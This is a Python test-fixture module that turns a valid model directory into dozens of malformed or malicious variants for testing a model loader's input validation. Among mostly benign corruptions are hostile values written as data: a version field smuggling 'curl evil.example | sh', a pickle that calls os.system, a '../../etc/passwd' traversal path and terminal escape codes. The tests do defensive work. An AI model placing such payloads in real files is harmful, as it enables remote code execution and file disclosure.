"""Every way that a model directory can be bad; each case makes one of them out of a good one."""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from safetensors.torch import load_file, save_file

from textnn.bundle.config import seal

Case = tuple[str, Callable[[Path], object]]


def edit(directory: Path, change: Callable[[dict[str, Any]], object]) -> None:
    """Change the configuration as one would who tampers with a model: with the sums that belong to it."""
    config = json.loads((directory / "config.json").read_bytes())
    for name in config["files"]:
        content = (directory / name).read_bytes()
        config["files"][name] = {"bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}
    change(config)
    (directory / "config.json").write_text(json.dumps(seal(config)), encoding="utf-8")


def config(change: Callable[[dict[str, Any]], object]) -> Callable[[Path], object]:
    return lambda directory: edit(directory, change)


def text(content: str) -> Callable[[Path], object]:
    """Another ``config.json``."""
    return lambda directory: (directory / "config.json").write_text(content, encoding="utf-8")


def insert(addition: str) -> Callable[[Path], object]:
    """Write something behind the first brace of the configuration."""

    def make(directory: Path) -> None:
        content = (directory / "config.json").read_text(encoding="utf-8")
        (directory / "config.json").write_text(content.replace("{", "{" + addition, 1), encoding="utf-8")

    return make


def replaced(name: str, content: bytes) -> Callable[[Path], object]:
    """Another content of a file, with its sum."""

    def make(directory: Path) -> None:
        (directory / name).write_bytes(content)
        edit(directory, lambda config: config["training"].update(validation_confusion=None))

    return make


def changed(name: str, change: Callable[[bytes], bytes]) -> Callable[[Path], object]:
    """A file that was damaged: its sum does not fit."""
    return lambda directory: (directory / name).write_bytes(change((directory / name).read_bytes()))


def weights(change: Callable[[dict[str, torch.Tensor]], object]) -> Callable[[Path], object]:
    """Other tensors, with the sum of their file."""

    def make(directory: Path) -> None:
        tensors = load_file(directory / "model.safetensors")
        change(tensors)
        save_file(tensors, directory / "model.safetensors")
        edit(directory, lambda config: None)

    return make


def header(change: Callable[[dict[str, Any]], object], length: int | None = None) -> Callable[[Path], object]:
    """Another header of the weights, with the sum of their file."""

    def make(directory: Path) -> None:
        content = (directory / "model.safetensors").read_bytes()
        size = int.from_bytes(content[:8], "little")
        values = json.loads(content[8 : 8 + size])
        change(values)
        written = json.dumps(values).encode()
        start = (len(written) if length is None else length).to_bytes(8, "little")
        (directory / "model.safetensors").write_bytes(start + written + content[8 + size :])
        edit(directory, lambda config: None)

    return make


def instead(name: str, make: Callable[[Path], object]) -> Callable[[Path], object]:
    """Something else in the place of a file."""

    def put(directory: Path) -> None:
        (directory / name).rename(directory.parent / f"{directory.name}-{name}")
        make(directory / name)

    return put


def _large(file: Path) -> None:
    with file.open("wb") as stream:
        stream.truncate(1 << 40)


def _no_directory(directory: Path) -> None:
    for file in directory.iterdir():
        file.unlink()
    directory.rmdir()


def _a_file(directory: Path) -> None:
    _no_directory(directory)
    directory.write_text("text")


def _empty(directory: Path) -> None:
    for file in directory.iterdir():
        file.unlink()


CASES: list[Case] = [
    ("nothing is there", _no_directory),
    ("a file is there", _a_file),
    ("an empty directory is there", _empty),
    ("`config.json`: of another program", text('{"model_type": "bert"}')),
    ("`config.json`: cut off", changed("config.json", lambda content: content[:200])),
    ("`config.json`: changed by hand", changed("config.json", lambda c: c.replace(b'"seed": 0', b'"seed": 1'))),
    ("`config.json`: no text", lambda d: (d / "config.json").write_bytes(b"\x80\x04\x95pickle")),
    ("`config.json`: of a later format", config(lambda c: c.update(format_version=2))),
    ("`config.json`: NaN", insert('"a": NaN,')),
    ("`config.json`: a number without end", insert('"a": 1e999,')),
    ("`config.json`: a number of a million digits", insert(f'"a": {"9" * 10**6},')),
    ("`config.json`: a name twice", insert('"format": "other",')),
    ("`config.json`: nested without end", text("[" * 10**6)),
    ("`config.json`: nested deep", insert(f'"a": {"[" * 99}{"]" * 99},')),
    ("`config.json`: a terabyte", instead("config.json", _large)),
    ("`config.json`: a link to a device", instead("config.json", lambda file: file.symlink_to("/dev/zero"))),
    ("`config.json`: a pipe, which nobody writes to", instead("config.json", os.mkfifo)),
    ("`config.json`: a directory", instead("config.json", lambda file: file.mkdir())),
    ("`config.json`: a name that is not known", config(lambda c: c.update(python="import os"))),
    (
        "`config.json`: a name with control characters",
        config(lambda c: c["options"].update({"\x1b[2J\x1b]0;owned\x07": 1})),
    ),
    ("`config.json`: a file outside of the directory", config(lambda c: c["files"].update({"../../etc/passwd": {}}))),
    ("`config.json`: a sum that is none", config(lambda c: c["files"].update({"labels.json": {"bytes": 1}}))),
    ("`config.json`: a part missing", config(lambda c: c.pop("options"))),
    ("`config.json`: a part of another type", config(lambda c: c.update(training=[1]))),
    ("`config.json`: an architecture that is not known", config(lambda c: c.update(architecture="os.system"))),
    ("`config.json`: an option that is not known", config(lambda c: c["options"].update(hidden_size=9))),
    ("`config.json`: an option without measure", config(lambda c: c["options"].update(channels=10**12))),
    (
        "`config.json`: options that would need 17 GB",
        config(lambda c: c["options"].update(channels=65536, embedding_dim=65536)),
    ),
    (
        "`config.json`: texts padded without measure",
        config(lambda c: c.update(architecture="lecture-lstm", options={"max_length": 2**31})),
    ),
    ("`config.json`: a tokenizer that is not known", config(lambda c: c["tokenizer"].update(kind="os.system"))),
    (
        "`config.json`: a segmenter, without its files",
        config(lambda c: c.update(tokenizer={"kind": "segmenter", "model": "0" * 16})),
    ),
    (
        "`config.json`: a version that is a command",
        config(lambda c: c["tokenizer"].update(kind="jieba", version="1'; curl evil.example | sh; '")),
    ),
    ("`config.json`: options that no tokenizer has", config(lambda c: c["tokenizer"].update(options={"path": "/x"}))),
    ("trained with a function as its tokenizer", config(lambda c: c.update(tokenizer=_FUNCTION))),
    ("`config.json`: a temperature that is none", config(lambda c: c["prediction"].update(temperature=0))),
    ("`config.json`: figures that are none", config(lambda c: c["training"].update(validation_confusion=[[1]]))),
    (
        "`config.json`: figures without measure",
        config(lambda c: c["training"].update(validation_confusion=[[2**62, 2**62], [2**62, 1]])),
    ),
    ("a file is missing", lambda d: (d / "labels.json").unlink()),
    ("a file is cut off", changed("vocabulary.txt", lambda content: content[:-3])),
    ("a file was changed", changed("vocabulary.txt", lambda content: content.replace("好".encode(), "坏".encode()))),
    ("a file is a link to a device", instead("vocabulary.txt", lambda file: file.symlink_to("/dev/zero"))),
    ("a file is a pipe", instead("model.safetensors", os.mkfifo)),
    ("a word list of a terabyte", instead("stop_words.txt", _large)),
    ("`labels.json`: no list", replaced("labels.json", b'{"a": 1}')),
    ("`labels.json`: one label", replaced("labels.json", b'["a"]')),
    ("`labels.json`: a label twice", replaced("labels.json", b'["a", "a"]')),
    ("`labels.json`: a label that is none", replaced("labels.json", b'["a", {"pickle": "gASV"}]')),
    ("`labels.json`: more labels than the weights have", replaced("labels.json", b'["a", "b", "c"]')),
    ("`vocabulary.txt`: no UTF-8", replaced("vocabulary.txt", b"[PAD]\n[UNK]\n\xff\n")),
    ("`vocabulary.txt`: ends within a line", replaced("vocabulary.txt", b"[PAD]\n[UNK]\na")),
    ("`vocabulary.txt`: without its first words", replaced("vocabulary.txt", b"a\nb\n")),
    ("`vocabulary.txt`: a word twice", replaced("vocabulary.txt", b"[PAD]\n[UNK]\na\na\n")),
    ("`vocabulary.txt`: an escape that is none", replaced("vocabulary.txt", b"[PAD]\n[UNK]\n\\q\n")),
    ("`vocabulary.txt`: fewer words than the weights have", replaced("vocabulary.txt", b"[PAD]\n[UNK]\n")),
    (
        "`vocabulary.txt`: 17 million empty lines",
        replaced("vocabulary.txt", b"\n" * ((1 << 24) + 1)),
    ),
    ("`model.safetensors`: a pickle", replaced("model.safetensors", b"\x80\x04cos\nsystem\n(S'id'\ntR." + b"." * 32)),
    ("`model.safetensors`: a header longer than the file", header(lambda h: None, length=2**62)),
    ("`model.safetensors`: a header that is no JSON", replaced("model.safetensors", b"\4" + b"\0" * 7 + b"spam")),
    (
        "`model.safetensors`: tensors that overlap",
        header(lambda h: h["output.bias"].update(data_offsets=[0, 8])),
    ),
    (
        "`model.safetensors`: a tensor larger than its bytes",
        header(lambda h: h["output.bias"].update(shape=[2**39])),
    ),
    ("`model.safetensors`: a type that is not known", header(lambda h: h["output.bias"].update(dtype="OBJECT"))),
    (
        "`model.safetensors`: a tensor without bytes, but sizes without measure",
        header(lambda h: h.update(x={"dtype": "F32", "shape": [0, 2**40, 2**40], "data_offsets": [0, 0]})),
    ),
    ("`model.safetensors`: another shape", weights(lambda w: w.update({"output.bias": torch.zeros(5)}))),
    ("`model.safetensors`: another type", weights(lambda w: w.update({"output.bias": torch.zeros(2).double()}))),
    ("`model.safetensors`: a tensor too many", weights(lambda w: w.update(hook=torch.zeros(1)))),
    ("`model.safetensors`: NaN", weights(lambda w: w["output.bias"].fill_(float("nan")))),
]

_FUNCTION = {"kind": "callable", "function": "my.module.cut"}
